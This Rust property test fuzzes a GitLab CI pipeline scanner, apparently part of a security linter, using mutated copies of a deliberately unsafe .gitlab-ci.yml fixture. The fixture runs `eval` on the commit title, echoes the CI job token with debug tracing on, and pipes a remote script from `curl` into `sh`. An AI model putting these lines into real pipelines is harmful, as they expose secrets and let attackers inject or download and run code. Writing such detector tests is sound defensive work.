//! That no text makes the engine fall.

use super::Gitlab;
use crate::engine::Engine;
use crate::engine::yaml::mutated::mutated;
use crate::target::SourceFile;
use proptest::prelude::*;

const PIPELINE: &str = "\
include: [{remote: \"http://a.example/b\"}, {project: a/b, ref: main}, {component: a/b@~latest}]
variables: {CI_DEBUG_TRACE: \"true\", A: {value: b}}
default: {image: {name: python}, services: [redis]}
.base: &base
  script: &script
    - eval \"$CI_COMMIT_TITLE\"
    - |
      set -x
      echo \"$CI_JOB_TOKEN\"
      curl https://a.example | sh
sast:
  <<: *base
  allow_failure: true
  before_script: [!reference [.base, script], *script]
";

proptest! {
    #![proptest_config(ProptestConfig::with_cases(400))]

    #[test]
    fn no_mutation_makes_it_fall(text in mutated(PIPELINE)) {
        let file = SourceFile::new(".gitlab-ci.yml".into(), text.clone().into_bytes());
        for hit in Gitlab.scan(&file).hits {
            prop_assert!(text.get(hit.range.clone()).is_some(), "{:?} in {text}", hit.range);
        }
    }
}
